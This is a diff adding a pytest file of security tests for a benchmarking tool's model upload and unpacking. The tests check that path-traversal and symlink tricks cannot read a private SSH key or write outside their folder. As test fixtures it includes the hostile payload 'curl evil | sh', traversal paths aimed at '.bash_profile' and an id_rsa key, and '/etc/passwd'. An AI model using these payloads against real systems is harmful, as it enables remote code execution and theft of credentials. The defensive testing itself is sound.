@@ -1,0 +1,186 @@
+"""A model whose weights are said to be elsewhere: nothing of that is read, sent or written."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import os
+import subprocess
+import sys
+import tarfile
+from pathlib import Path
+
+import msgspec
+import pytest
+from evil_models import model_with_weights_at
+
+from trtbench.build.onnx_file import external_files, load_onnx
+from trtbench.domain.spec import ModelRef, RunSpec
+from trtbench.errors import InputError
+from trtbench.executors import Request
+from trtbench.executors._folders import blob, keep_blob, unpack
+from trtbench.executors._parcel import (
+    Parcel,
+    Part,
+    bytes_from_parcel,
+    parcel_from_request,
+    place_parcel,
+)
+from trtbench.workflows.bench import Conduct
+from trtbench.workflows.config import Config
+from trtbench.workflows.elsewhere import request_from_spec
+from trtbench.workflows.spec import run_spec
+
+SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----"
+OUTSIDE = ["../secret/id_rsa", "{secret}/id_rsa", "door/id_rsa", "key", "w/../../secret/id_rsa"]
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    """A folder with a secret, and a model's folder with links to it beside."""
+    (tmp_path / "secret").mkdir()
+    (tmp_path / "secret" / "id_rsa").write_bytes(SECRET)
+    folder = tmp_path / "model"
+    folder.mkdir()
+    (folder / "w").mkdir()
+    (folder / "door").symlink_to(tmp_path / "secret")
+    (folder / "key").symlink_to(tmp_path / "secret" / "id_rsa")
+    return tmp_path
+
+
+def evil(home: Path, location: str) -> Path:
+    location = location.format(secret=home / "secret")
+    return model_with_weights_at(home / "model" / "m.onnx", location)
+
+
+def parcel_of(model: Path) -> Parcel:
+    """What an executor would send for a run of a model."""
+    spec = run_spec(model, config=Config(store=""), runtime="onnxruntime")
+    return parcel_from_request(request_from_spec(spec, "r1", Conduct()))
+
+
+@pytest.mark.parametrize("location", OUTSIDE)
+def test_a_secret_is_not_uploaded_as_weights(home: Path, location: str) -> None:
+    with pytest.raises(InputError):
+        parcel_of(evil(home, location))
+
+
+@pytest.mark.parametrize("location", OUTSIDE)
+def test_a_request_that_names_a_secret_is_refused_by_itself(home: Path, location: str) -> None:
+    model = evil(home, location)
+    digest = hashlib.sha256(model.read_bytes()).hexdigest()
+    spec = RunSpec(
+        model=ModelRef(path=str(model), format="onnx", sha256=digest), runtime="onnxruntime"
+    )
+    name = location.format(secret=home / "secret")
+    with pytest.raises(InputError):
+        parcel_from_request(Request(id="r", spec=spec, files=(name,)))
+
+
+@pytest.mark.parametrize("location", OUTSIDE)
+def test_a_secret_is_not_read_as_weights(home: Path, location: str) -> None:
+    model = evil(home, location)
+    with pytest.raises(InputError, match=r"leads out|link|outside"):
+        load_onnx(model)
+    if location not in ("key", "door/id_rsa"):
+        import onnx
+
+        with pytest.raises(InputError):
+            external_files(onnx.load(str(model), load_external_data=False))
+
+
+def test_weights_beside_the_model_still_travel(home: Path) -> None:
+    model = model_with_weights_at(home / "model" / "m.onnx", "w/data.bin")
+    (home / "model" / "w" / "data.bin").write_bytes(bytes(16))
+    assert load_onnx(model).graph.initializer[0].raw_data == bytes(16)
+    parcel = parcel_of(model)
+    assert sorted(part.name for part in parcel.parts) == ["model/m.onnx", "model/w/data.bin"]
+
+
+def _evil_parcel(name: str) -> tuple[Parcel, bytes]:
+    content = b"curl evil | sh\n"
+    spec = RunSpec(model=ModelRef(path="m.onnx", format="onnx"), runtime="onnxruntime")
+    part = Part(source="x", sha256=hashlib.sha256(content).hexdigest(), name=name)
+    return Parcel(request=Request(id="r", spec=spec), parts=(part,)), content
+
+
+PROFILES = ["../../.bash_profile", "model/../../../.bash_profile", "{home}/.bash_profile", "up/x"]
+
+
+@pytest.mark.parametrize("name", PROFILES)
+def test_a_request_that_arrives_writes_nothing_outside_its_folder(
+    tmp_path: Path, name: str
+) -> None:
+    home = tmp_path / "home"
+    folder = home / "cache" / "work"
+    folder.mkdir(parents=True)
+    (folder / "up").symlink_to(home)
+    before = _files(home)
+    parcel, content = _evil_parcel(name.format(home=home))
+    keep_blob(home / "cache", parcel.parts[0].sha256, [content])
+    with pytest.raises(InputError):
+        place_parcel(parcel, cache=home / "cache", folder=folder)
+    assert _files(home) - before == {f"cache/blobs/{parcel.parts[0].sha256}"}
+
+
+def test_the_services_on_the_far_side_refuse_folders_that_lead_out(tmp_path: Path) -> None:
+    home, here = tmp_path / "home", tmp_path / "home" / ".cache" / "trtbench"
+    here.mkdir(parents=True)
+    (home / "precious").write_text("x")
+    parcel, content = _evil_parcel("../../../.bash_profile")
+    keep_blob(here, parcel.parts[0].sha256, [content])
+    before = _files(home)
+    for words, data in (
+        (["place", "work/r"], bytes_from_parcel(parcel)),
+        (["place", "../../evil"], bytes_from_parcel(parcel)),
+        (["keep", "../../../.bash_profile"], content),
+        (["missing", "../../../precious"], b""),
+        (["pack", "../.."], b""),
+        (["remove", "../.."], b""),
+        (["remove", str(home)], b""),
+    ):
+        done = subprocess.run(
+            [sys.executable, "-m", "trtbench.executors._far", *words],
+            input=data, cwd=here, capture_output=True, timeout=60, check=False,
+            env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
+        )  # fmt: skip
+        assert done.returncode != 0, words
+        assert _files(home) == before, words
+
+
+@pytest.mark.parametrize("name", ["../evil", "/tmp/evil-{pid}", "up/evil", "run/../../evil"])
+def test_what_comes_back_writes_nothing_outside_its_folder(tmp_path: Path, name: str) -> None:
+    folder = tmp_path / "left"
+    folder.mkdir()
+    (folder / "up").symlink_to(tmp_path)
+    with tarfile.open(tmp_path / "left.tar", "w") as archive:
+        member = tarfile.TarInfo(name.format(pid=os.getpid()))
+        member.size = 4
+        archive.addfile(member, io.BytesIO(b"evil"))
+    before = _files(tmp_path)
+    with pytest.raises(InputError):
+        unpack(tmp_path / "left.tar", folder)
+    assert _files(tmp_path) == before
+    assert not Path(f"/tmp/evil-{os.getpid()}").exists()
+
+
+def test_a_content_is_named_by_a_hash_only(tmp_path: Path) -> None:
+    for name in ("../x", "/etc/passwd", "a/b", ""):
+        with pytest.raises(InputError):
+            blob(tmp_path, name)
+
+
+def test_a_link_among_the_inputs_uploads_nothing_from_elsewhere(home: Path) -> None:
+    inputs = home / "inputs"
+    inputs.mkdir()
+    (inputs / "x.bin").symlink_to(home / "secret" / "id_rsa")
+    spec = RunSpec(model=ModelRef(path="m.onnx", format="onnx"), runtime="onnxruntime")
+    spec = msgspec.structs.replace(
+        spec, inputs=msgspec.structs.replace(spec.inputs, source=str(inputs))
+    )
+    with pytest.raises(InputError, match="leads out"):
+        parcel_from_request(Request(id="r", spec=spec))
+
+
+def _files(folder: Path) -> set[str]:
+    return {str(each.relative_to(folder)) for each in folder.rglob("*") if each.is_file()}
